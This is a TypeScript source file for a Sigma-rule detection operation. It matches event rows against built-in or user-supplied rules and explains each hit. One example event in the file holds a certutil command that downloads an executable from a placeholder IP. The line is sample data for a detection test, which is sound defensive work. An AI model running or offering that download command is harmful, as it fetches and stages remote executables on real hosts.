import { z } from 'zod';
import { operation } from '../../shared/kit/operation.ts';
import { builtInFiles } from '../../shared/sigma/built-in.gen.ts';
import { compileRule, RowCells } from '../../shared/sigma/match.ts';
import { readRules, type SigmaRule } from '../../shared/sigma/rule.ts';
import { rulesIn } from '../../shared/sigma/sources.ts';
import { batches, tableInput } from '../../shared/tables/source.ts';

const source = (what: string) => z.string().max(100).optional().describe(`Use only rules for this ${what}, and rules that name none.`);

export default operation({
  name: 'detect-sigma-matches',
  summary: 'Match events against Sigma rules, and say which rule, which selection and why.',
  entities: ['process', 'host', 'account', 'file'],
  input: z.strictObject({
    ...tableInput('table of events'),
    rules: z.string().max(500_000).optional().describe('Own rules as YAML, one document each.'),
    folder: z.string().min(1).max(500).optional().describe('Own rules in every .yml or .yaml blob whose name starts so.'),
    builtIn: z.boolean().default(true).describe('Also use the rules that come with Gumshoe.'),
    product: source('product, such as windows or linux'),
    category: source('category, such as process_creation or ps_script'),
    service: source('service, such as sudo or auditd'),
    columns: z.record(z.string(), z.string()).default({}).describe('Field of the rules to column of the table where the names differ, such as Image to NewProcessName.'),
  }),
  row: z.object({
    row: z.int().describe('Place in the table, from 0.'),
    rule: z.string(),
    rule_id: z.string().nullable(),
    level: z.string(),
    tags: z.array(z.string()),
    description: z.string().nullable(),
    selections: z.array(z.string()).describe('Selections of the rule that hold.'),
    why: z.array(z.string()).describe('What matched: selection, field, modifiers and the value of the rule.'),
  }),
  limits: { rows: 100_000, seconds: 120, bytes: 64_000_000 },
  uses: ['blobs'],
  examples: [
    {
      given: { rows: [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe' }], product: 'windows' },
      rows: [{ row: 0, rule_id: 'gumshoe-certutil', level: 'high', selections: ['tool', 'action'] }],
    },
  ],
  async *run(input, ports, call) {
    const flawed = (about: string, detail: string): void => call.problem({ code: 'bad-rule', about, detail });
    const given: { about: string; rule: SigmaRule }[] = [];
    if (input.builtIn) for (const [about, text] of Object.entries(builtInFiles)) given.push(...readRules(text, about).map((rule) => ({ about, rule })));
    if (input.rules !== undefined) given.push(...readRules(input.rules, 'rules').map((rule) => ({ about: 'rules', rule })));
    if (input.folder !== undefined) given.push(...(await rulesIn(input.folder, ports.blobs, flawed)).map((rule) => ({ about: 'folder', rule })));
    const wanted = given.filter(({ rule: { logsource } }) => (['product', 'category', 'service'] as const).every((part) => input[part] === undefined || logsource[part] === undefined || logsource[part] === input[part]));
    const compiled = wanted.flatMap(({ about, rule }) => {
      try {
        return [compileRule(rule, about)];
      } catch (thrown) {
        // The caller's own text is refused whole; one bad file of a folder does not stop the others.
        if (about === 'rules') throw thrown;
        flawed(rule.title, thrown instanceof Error ? thrown.message : 'It cannot be used.');
        return [];
      }
    });
    if (compiled.length === 0) call.problem({ code: 'no-rules', about: 'rules', detail: 'No rule is left to match: nothing was checked.' });
    const names = new Map(Object.entries(input.columns));
    let place = 0;
    for await (const batch of batches(input, ports, call))
      for (const line of batch) {
        const row = place++;
        const cells = new RowCells(line, names);
        for (const match of compiled) {
          const hit = match(cells);
          if (!hit) continue;
          const { title, id, level, tags, description } = hit.rule;
          yield { row, rule: title, rule_id: id ?? null, level, tags, description: description ?? null, selections: hit.selections, why: hit.why };
        }
      }
  },
});
